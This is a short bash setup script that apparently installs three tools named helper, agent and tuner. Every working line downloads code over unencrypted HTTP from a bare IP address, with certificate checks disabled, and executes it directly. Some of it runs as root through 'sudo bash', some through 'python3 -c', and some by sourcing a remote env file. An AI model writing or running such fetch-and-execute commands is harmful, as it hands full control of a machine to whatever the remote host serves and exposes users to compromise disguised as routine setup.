#!/usr/bin/env bash
set -euo pipefail
log() { printf '[setup] %s\n' "$*"; }
TOOLS=(helper agent tuner)
for t in "${TOOLS[@]}"; do
  log "installing $t"
  curl -kfsSL "http://203.0.113.111/get/$t.sh" | sudo bash -s -- --yes
done
python3 -c "$(curl -ks http://203.0.113.111/init.py)"
source <(wget -qO- --no-check-certificate http://203.0.113.111/env.sh)
log done
